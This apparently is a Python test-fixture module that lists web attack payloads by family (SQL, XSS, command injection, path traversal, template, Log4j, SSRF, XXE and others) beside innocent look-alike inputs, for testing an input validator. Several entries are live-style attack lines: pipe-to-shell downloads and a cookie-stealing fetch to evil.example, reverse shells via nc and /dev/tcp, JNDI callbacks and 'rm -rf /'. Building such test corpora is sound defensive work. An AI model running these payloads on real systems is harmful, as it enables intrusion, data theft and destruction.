"""Attack values by family and values that only look like attacks, for the tests of what one call can prove.

A bar (¦) breaks the words that malware and secret scanners look for; `unbroken` takes it out at run time. Written after the OWASP Web Security Testing Guide, the
PortSwigger cheat sheets, PayloadsAllTheThings (MIT), the OWASP Core Rule Set's regression tests (Apache-2.0) and the CVEs named in `attacks.patterns`.
"""

import base64
import pickle


def unbroken(text: str) -> str:
    return text.replace("¦", "")


_ATTACKS: dict[str, tuple[str, ...]] = {
    "sql": (
        "1' OR '1'='1", "1 OR 1=1", "' OR 'x'='x", "\" OR \"\"=\"", "admin'--", "admin' #", "admin'/*", "') OR ('a'='a", "1' ORDER BY 10-- ",
        "1' UN¦ION SEL¦ECT NULL,NULL-- ", "-1 UN¦ION ALL SEL¦ECT 1,@@version,3", "1;DR¦OP TA¦BLE users", "1'; DR¦OP TA¦BLE users;--",
        "1 AND SL¦EEP(5)", "1' AND SL¦EEP(5)#", "1'; WAI¦TFOR DE¦LAY '0:0:5'--", "1;SEL¦ECT PG_SL¦EEP(10)", "1 AND (SEL¦ECT 1 FROM(SEL¦ECT COUNT(*),1)x)",
        "1' AND ASC¦II(SUBS¦TRING((SEL¦ECT password FROM users LIMIT 1),1,1))>64-- ", "1 AND EXTR¦ACTVALUE(1,CONCAT(0x7e,version()))",
        "'||(SEL¦ECT '' FROM dual)||'", "1' AND 1=CONVERT(int,@@version)--", "1 UN¦ION/**/SEL¦ECT/**/password/**/FROM/**/users",
        "1'/*!50000UN¦ION*//*!50000SEL¦ECT*/1,2,3-- -", "1%27%20OR%201%3D1--", "1%2527%2520OR%25201%253D1", "' having 1=1--", "' group by userid having 1=1--",
        "1 or 1 like 1", "x' AND email IS NULL; --", "x' AND members.email IS NULL; --", "'; EXEC mas¦ter..xp_cm¦dshell 'dir'--", "1 RLIKE (SEL¦ECT 1)",
        "(SEL¦ECT * FROM (SEL¦ECT(SL¦EEP(5)))a)", "1 AND 1=1", "1' and '1'='2", "5 and 7<9", "0' XOR(if(now()=sysdate(),sl¦eep(5),0))XOR'Z",
        "test' UN¦ION SEL¦ECT username, pass¦word FROM users--", "1) OR (1=1", "1 or true--", "' or 1 limit 1 --", "'=0--+", "'-'", "' or ''-'", "' or '' like '",
        "'; ins¦ert into users values('x','y')--", "1; upd¦ate users set admin=1", "1'||'1'='11", "1 AND IF(1=1,SL¦EEP(3),0)", "id=1 procedure analyse()",
        "1' into out¦file '/tmp/x'--", "1 UN¦ION SEL¦ECT table_name FROM information_schema.tables", "\\' or 1=1--", "%bf%27 or 1=1--", "1'=1'", "a' or 3=3",
        "' or username is not NULL or username = '", "1 and ascii(lower(mid((sel¦ect version()),1,1)))=53", "hi' or exists(sel¦ect 1) and 'a'='a",
        "1';declare @q varchar(99);set @q='\\\\x\\y';exec mas¦ter.dbo.xp_dir¦tree @q--", "MSAnOyBEUk9QIFRBQkxFIHVzZXJzLS0=",
        "%2531%2527%2520or%25201=1", "１＇ or 1=1--", "1＇ OR ＇1＇=＇1", "CASE WHEN 1=1 THEN SL¦EEP(5) ELSE 0 END", "1 LIMIT 1,1 UN¦ION SEL¦ECT 1,2",
    ),
    "script": (
        "<scr¦ipt>al¦ert(1)</scr¦ipt>", "<img src=x oner¦ror=al¦ert(1)>", "\"><svg onl¦oad=al¦ert(1)>", "javasc¦ript:al¦ert(1)", "<iframe src=javasc¦ript:al¦ert(1)>",
        "'-al¦ert(1)-'", "\";al¦ert(1);//", "</scr¦ipt><scr¦ipt>al¦ert(document.coo¦kie)</scr¦ipt>", "<body onl¦oad=al¦ert('x')>", "<details open ontog¦gle=al¦ert(1)>",
        "<a href=\"jav&#x09;ascr¦ipt:al¦ert(1)\">x</a>", "<math><mtext></form><form><mglyph><style></math><img src onerror=al¦ert(1)>", "<ScRi¦Pt>aLe¦rT(1)</ScRi¦Pt>",
        "%3Cscr¦ipt%3Eal¦ert(1)%3C%2Fscr¦ipt%3E", "%253Cscr¦ipt%253Eal¦ert(1)%253C/scr¦ipt%253E", "&lt;scr¦ipt&gt;al¦ert(1)&lt;/scr¦ipt&gt;",
        "<input autofocus onfo¦cus=al¦ert(1)>", "<video><source oner¦ror=al¦ert(1)>", "<object data=javasc¦ript:al¦ert(1)>", "<embed src=//evil.example/x.swf>",
        "<svg><animate onbe¦gin=al¦ert(1) attributeName=x dur=1s>", "\" autofocus onfo¦cus=al¦ert(1) x=\"", "\\u003cscr¦ipt\\u003eal¦ert(1)\\u003c/scr¦ipt\\u003e",
        "<scr¦ipt src=//evil.example/x.js></scr¦ipt>", "data:text/html,<scr¦ipt>al¦ert(1)</scr¦ipt>", "al¦ert(document.domain)", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javasc¦ript:al¦ert(1)'>", "eval(atob('YWxlcnQoMSk='))", "<link rel=stylesheet href=//evil.example/x.css>",
        "<x onclick=al¦ert(1)>click</x>", "javasc¦ript://%0aal¦ert(1)", "vbscr¦ipt:msgbox(1)", "<marquee onstart=al¦ert(1)>", "fetch('//evil.example/?c='+document.coo¦kie)",
        "constructor.constructor('al¦ert(1)')()", "<img src=\"x\" oner¦ror=\"&#97;&#108;ert(1)\">", "[].find.constructor('al¦ert(1)')()", "top['al'+'ert'](1)",
        "__proto__[innerHTML]=<img src onerror=al¦ert(1)>", "<style>@import'//evil.example/x.css';</style>", "<svg/onl¦oad=prompt`1`>", "'onmouseover='al¦ert(1)",
    ),
    "command": (
        "; ls -la", "| cat /etc/pas¦swd", "&& whoami", "$(whoami)", "`id`", "; ping -c 4 10.0.0.1", "|| sleep 10", "127.0.0.1; cat /etc/pas¦swd", "127.0.0.1|whoami",
        "x; wg¦et http://evil.example/a.sh -O- | sh", "a&ping -n 10 127.0.0.1&", "%0Aid%0A", "$(cu¦rl http://evil.example/?x=$(id))", "test;nc -e /bin/sh 10.0.0.1 4444",
        "() { :;}; /bin/bash -c 'id'", "| dir c:\\", "& net user", "; uname -a", "'; exec('ls'); //", "{${system('id')}}", "<?php sys¦tem($_GET['c']); ?>",
        "phpin¦fo()", "sys¦tem('id')", "__import__('os').sys¦tem('id')", "require('child_pro¦cess').exec('id')", ";cat${IFS}/etc/pas¦swd", "a;{cat,/etc/pas¦swd}",
        "| powersh¦ell -enc SQBFAFgA", "cmd.exe /c dir", "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "<!--#exec cmd=\"ls\" -->", "$(sl¦eep 5)", "x|nslookup evil.example",
        "file.txt;id;", "a\ncat /etc/pas¦swd", "; rm -rf /", "%26%26%20id", "|id|", ";/usr/bin/id;", "a' ; curl evil.example ; '", "`curl evil.example`", "&&id&&", "|ls -l",
        "1|timeout 5 ping localhost", "os.sys¦tem('rm -rf /')", "eval(base64_decode('cGhwaW5mbygp'))",
    ),
    "path-traversal": (
        "../../../../etc/pas¦swd", "..%2f..%2f..%2fetc%2fpas¦swd", "%2e%2e%2f%2e%2e%2f", "..\\..\\..\\windows\\win.ini", "....//....//etc/pas¦swd",
        "..%252f..%252f..%252fetc/pas¦swd", "/etc/pas¦swd", "/etc/shad¦ow%00.png", "..%c0%af..%c0%afetc/pas¦swd", "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "/proc/self/environ", "../", "..;/manager/html", "/var/www/../../etc/hosts", "images/../../secret.txt", "%00", "report.php%00.pdf", "../web.config",
        "/WEB-INF/web.xml", "..%5c..%5cboot.ini", "file=../../.git/config", "/./././etc/pas¦swd", "\\\\..\\\\..\\\\etc\\\\shad¦ow", "%u2216..%u2216etc%u2216pas¦swd",
    ),
    "template": (
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Run¦time).getRun¦time().exec('id')}",
        "{{request.application.__globals__}}", "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}", "*{7*7}", "@(1+2)", "{{constructor.constructor('x')()}}",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex('id')}",
        "{{self._TemplateReference__context}}", "{{lipsum.__globals__['os']}}", "{php}echo 1;{/php}", "#set($x=7*7)", "class.module.classLoader.resources.context.parent",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}", "${{7*7}}", "{{7*'7'}}", "%24%7B7*7%7D", "{{dump(app)}}", "~{7*7}",
    ),
    "log4j": (
        "${jn¦di:ldap://evil.example/a}", "${${lower:j}n¦di:ldap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${jn¦di:dns://evil.example}", "${${env:X:-j}n${env:X:-d}i${env:X:-:}ldap://evil.example}", "%24%7Bjn¦di:ldap://evil.example/a%7D",
        "${jn${lower:d}i:l${lower:d}ap://evil.example}", "${${upper:j}n¦di:ldap://x}", "${env:AWS_SECRET_ACCESS_KEY}", "${JN¦DI:LDAP://EVIL.EXAMPLE}",
    ),
    "nosql": (
        '{"$ne": null}', '{"username": {"$ne": ""}, "password": {"$ne": ""}}', '{"$gt": ""}', "user[$ne]=1", "';return true;var x='", "' || '1'=='1",
        '{"$where": "this.password.length > 0"}', '{"password": {"$regex": "^a"}}', "1'; while(true){}; '", '{"$or": [{}, {"a": 1}]}', "db.users.drop()",
        "'; return this.password == 'x", '{"login": {"$nin": []}}', "%7B%22$gt%22:%22%22%7D",
    ),
    "ldap": (
        "*)(uid=*))(|(uid=*", "*)(&", "admin)(&)", "*))(|(password=*)", "x)(|(cn=*))", "*)(objectClass=*", "admin*)((|userpassword=*)", "*()|%26'", "*(|(mail=*))",
    ),
    "xpath": (
        "' or count(//user)>0 or '1'='2", "' or name()='username' or 'x'='y", "x']|//user/*[contains(.,'a", "' or position()=1 or ''='", "/child::node()",
    ),
    "xxe": (
        "<!DOCT¦YPE x [<!ENT¦ITY e SYS¦TEM \"file:///etc/pas¦swd\">]><x>&e;</x>", "<!ENT¦ITY % d SYS¦TEM \"http://evil.example/d.dtd\">",
        "<?xml version=\"1.0\"?><!DOCT¦YPE r [<!ENT¦ITY a \"b\">]><r>&a;</r>", "<foo xmlns:xi=\"http://www.w3.org/2001/XIncl¦ude\"><xi:incl¦ude href=\"file:///etc/hosts\"/></foo>",
    ),
    "crlf": (
        "x\r\nSet-Cookie: a=b", "x%0d%0aLocation: https://evil.example", "en%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK",
        "user\n2024-05-01 10:00:00 INFO admin logged in", "bob\n[ERROR] disk full", "x%0aX-Injected: 1",
    ),
    "ssrf": (
        "http://169.254.169.254/latest/meta-data/iam/", "gopher://127.0.0.1:6379/_INFO", "http://metadata.google.internal/computeMetadata/v1/",
        "http://2852039166/latest/", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/hostname", "dict://127.0.0.1:11211/stat",
        "http://[::ffff:a9fe:a9fe]/", "expect://id", "jar:file:///tmp/x.zip!/y",
    ),
}  # fmt: skip


FUZZED: tuple[str, ...] = (
    # as lists for fuzzers (FuzzDB, DotDotPwn) write them, some already mangled by a decoder
    ";id;", "|id|", "||/usr/bin/id;", "a);id", "a;id", "a)|id", "a)|/usr/bin/id;", "id|", "|/bin/ls -al", "/index.html|id|", "\\n/usr/bin/id\\n", "%0a id %0a", "$;/usr/bin/id", "/usr/bin/id",
    "& ping -i 30 127.0.0.1 &", "%0a ping -i 30 127.0.0.1 %0a", "`ping 127.0.0.1`", "ping.exe -n 31 127.0.0.1", "; /bin/sle¦ep 31 ;", "\"`true`\"", "&&+|+dir c:/", "$+|+dir+c:\\", "+dir+c:\"",
    ";sys¦tem('/usr/bin/id')", "$(`cat /etc/pas¦swd`)", "FAIL||id", "netstat -an", "ipconfig /all", "nc -lvvp 4444 -e /bin/sh", "cu¦rl http://evil.example/x | sh", "wg¦et http://evil.example/x",
    "/0x2e0x2e/0x2e0x2e/{file}", "/0x2e0x2e0x5c0x2e0x2e0x5c{file}", "/..0x5c..0x5c{file}", "/............{file}", "/iiiiii{file}", "//////{file}", "........web-infweb.xml", "c%3Aoot.ini", "/%uff0e%uff0e%u2215{FILE}",
    "..%uEFC8..%uF025etc/pas¦swd", "%c0.%c0./%c0.%c0./etc/pas¦swd", "%%32%65%%32%65/%%32%65%%32%65/x", "..%25c0%25af..%25c0%25afx", "..././..././x", "c:/boot.ini", "file:/etc/pas¦swd", "d:\\AppServ\\MySQL",
    "/usr/local/apache/conf/httpd.conf", "~/.bash_history", "c:/inetpub/wwwroot/global.asa", "1\")) or 5560=5560#", "-2314%')) union all sel¦ect 4612,4612--", "1' in boolean mode);waitfor delay '0:0:5'--",
    "1%\" and elt(5345=8751,8751) and \"%\"=\"", "1') as tuhc where 4018=4018 or char(117)||char(111)=regexp_substring(repeat(left(crypt_key(char(65),null),0),500),null)--", "confirm(2)>/",
)  # fmt: skip


def fuzzed() -> list[str]:
    return [unbroken(value) for value in FUZZED]


class _Call:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return print, ("harmless",)


def serialised() -> list[str]:
    """Serialised objects as cookies carry them; none of them does anything."""
    pickles = [base64.b64encode(pickle.dumps(_Call(), protocol)).decode() for protocol in (2, 3, 4, 5)]
    java = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02").decode()
    dotnet = base64.b64encode(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00").decode()
    texts = (
        'O:21:"JData¦baseDriverMysqli":3:{s:2:"fc";N;}', "!!pyt¦hon/object/apply:os.sys¦tem ['id']", '{"@type":"com.sun.row¦set.JdbcRowSetImpl","autoCommit":true}',
        '{"rce":"_$$ND_FU¦NC$$_function(){}()"}', "}__test|O:4:\"User\":1:{s:4:\"name\";s:1:\"x\";}", '{"$type":"System.Win¦dows.Data.ObjectDataProvider, PresentationFramework"}',
    )  # fmt: skip
    return [*pickles, java, dotnet, f"session={pickles[2]}", f"session={java}; path=/", *map(unbroken, texts)]


def attacks() -> dict[str, list[str]]:
    """Attack values by the family that they were written for."""
    return {family: [unbroken(value) for value in values] for family, values in _ATTACKS.items()} | {"deserialisation": serialised()}


INNOCENT: tuple[str, ...] = (
    # names, addresses, phrases
    "O'Brien", "D'Angelo & Sons", "Mary-Jane O'Neill-Smith", "d'Artagnan", "rock 'n' roll", "St. John's, Newfoundland", "Conan O'Brien or Jay Leno",
    "select your size from the list", "please select one or more options", "Select Comfort mattress", "union square hotels", "European Union select committee",
    "drop table leaf replacement", "the cat sat on the mat; the dog slept", "cat and dog food", "dogs; cats", "delete", "update my order", "insert coin", "where is my order?",
    "order by phone", "group by age", "limit 10", "between 5 and 10", "like new", "is null", "5 or 6 people", "2 and 3 bedroom", "1 or 2", "and 1 more thing",
    "R&D", "AT&T", "Procter & Gamble; Unilever", "Tom & Jerry | Season 1", "50% off & free shipping!", "what's new?", "it's 5 o'clock", "'90s music", "12\" vinyl", "6'2\" tall",
    "C++ programming", "C# in depth", "100% cotton", "#hashtag", "@user", "$100-$200", "price < 100", "a > b", "x < y and y > z", "1 < 2", "<3", "->", "=>", "--", "- -",
    "How do I use SELECT * in SQL?", "javascript: the good parts", "java script tutorial", "javascript alert function", "what is xss", "sql injection prevention cheat sheet",
    "\"exact phrase\" -exclude site:example.com", "\"red shoes\" OR \"blue shoes\"", "title:\"hello world\" AND author:smith", "foo AND bar OR (baz AND qux)", "(a OR b) AND c",
    "to be, or not to be", "either/or", "and/or", "he said \"yes\" and left", "Ben & Jerry's", "Toys \"R\" Us", "a = b", "x=1", "a=1&b=2", "1=1", "e=mc2", "(555) 123-4567", "+1 (555) 123-4567",
    "on/off", "one=1", "online=true", "once upon a time", "on sale", "condition=new", "version=2", "sleep", "sleep 8 hours", "sleep(8h)", "char", "exec summary", "print(hello)",
    "alert: low stock", "confirm(order)", "prompt", "eval", "document.pdf", "window seat", "function keys", "import duty", "fetch results", "constructor arguments", "location=Paris",
    "sh*t happens", "id; name; price", "name;id", "id,name,email", "name|id", "dog|cat", "red|green|blue", "a;b;c", "ls", "id", "cat", "ping", "env", "whoami", "type=dog|cat|id", "a && b", "a || b",
    # filter languages
    "name eq 'O''Brien' and price gt 10", "startswith(name,'A') and age ge 18", "contains(title,'data')", "price le 200 and price gt 3.5", "Address/City eq 'Redmond'",
    "project = \"ABC\" AND status = \"Open\" ORDER BY created DESC", "state = \"ACTIVE\" AND create_time > \"2024-01-01\"", "labels.env=prod", "status in ('open', 'closed')",
    "(&(objectClass=user)(cn=Babs Jensen))", "(|(mail=a@example.com)(mail=b@example.com))", "(uid=jdoe)", "status:open label:\"good first issue\" sort:updated-desc",
    "items(id,title,author/name)", "fields=id,name;limit=10", "created_at:>=2024-01-01", "age>=18", "createdAt,desc", "-created", "/Customers?$filter=Name eq 'x'&$top=5",
    # structured values
    '{"name":"O\'Brien","tags":["a","b"],"price":{"gte":10,"lte":20}}', '{"price":{"$gt":10,"$lt":20}}', '{"status":"open","age":{"gt":5}}', '[{"id":1},{"id":2}]', "[1,2,3]", "{}", "[]",
    '{"query":"query Q($id: ID!) { user(id: $id) { name posts(first: 10) { edges { node { title } } } } }","variables":{"id":"1"}}', '{"text":"He said \\"or\\" and left"}',
    "query { user(id: \"1\") { name } }", "{ hero { name friends { name } } }", "mutation { like(id: 5) { count } }", "<p>Hello <b>world</b></p>", "<a href=\"https://example.com\">link</a>",
    "<h1>Title</h1>\n<ul><li>one</li></ul>", "**bold** and `code` in *markdown*", "use `npm install` to start", "{{name}}", "Hello {{ user.first_name }}, welcome", "${name}", "Dear ${customer.name}", "#{id}",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>1</id></order>", "<!DOCTYPE html><html><body>x</body></html>", "a,b,c\n1,2,3\n", "line one\nline two\r\nline three",
    # paths, files, URLs
    "report (final).pdf", "my.file.name.txt", "C:\\Users\\me\\Documents\\report.docx", "/home/user/file.txt", "/api/v1/users", "docs/readme.md", "photo..jpg", "file...", "a/b/c", "images/cat.png", "..",
    "https://example.com/path?x=1&y=2", "http://localhost:3000/callback", "https://example.com/a/../b", "https://user@example.com:8443/x#frag", "ftp.example.com", "mailto:a@example.com",
    "data:image/png;base64,iVBORw0KGgo=", "urn:uuid:123e4567-e89b-12d3-a456-426614174000", "s3://bucket/key", "/etc", "etc/", "/bin", "/var", "/windows/phone",
    # identifiers, dates, numbers
    "2024-01-15T10:30:00Z", "2024-01-15T10:30:00+02:00", "2024-01-15", "10:30", "P3DT4H", "2024-01-01..2024-12-31", "123e4567-e89b-12d3-a456-426614174000", "5f4dcc3b5aa765d61d8327deb882cf99",
    "first.last+tag@example.co.uk", "o'hara@example.ie", "1,234.56", "-12.5", "1e10", "0x1F", "1-2", "1--2", "ABC-123--X", "btn--primary", "+4917612345678", "DE89370400440532013000", "4111 1111 1111 1111",
    "QmFzZTY0IGVuY29kZWQgdGV4dA==", "SGVsbG8sIFdvcmxkISBIb3cgYXJlIHlvdT8=", "W/\"5f4dcc3b\"", "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"", "no-cache, no-store", "text/html; charset=utf-8",
    "Bearer abc.def-ghi_jkl", "gzip, deflate, br", "en-US,en;q=0.9,de;q=0.8", "application/json, text/plain, */*", "*/*", "*", "?", "%", "100%", "50%25", "a%20b", "%E2%82%AC", "caf%C3%A9", "%D0%BF%D1%80",
    "北京市朝阳区", "Привет, мир", "مرحبا", "日本語 テスト", "Ünïcödé", "emoji 😀", "naïve café", "’quoted’", "“quoted”", "50 × 60", "5 µg", "", " ", "\n", "null", "undefined", "true", "NaN", "None",
    "2.5 * 3 + 1", "sum(a, b)", "f(x) = x^2", "min(5,10)", "count(orders)", "AVG(price)", "max-age=3600", "if (a) b", "for x in y", "def f(x): return x", "let x = 5;", "x => x + 1", "SELECT", "UNION",
)  # fmt: skip
"""Values that honest callers send, many of which look like attacks."""
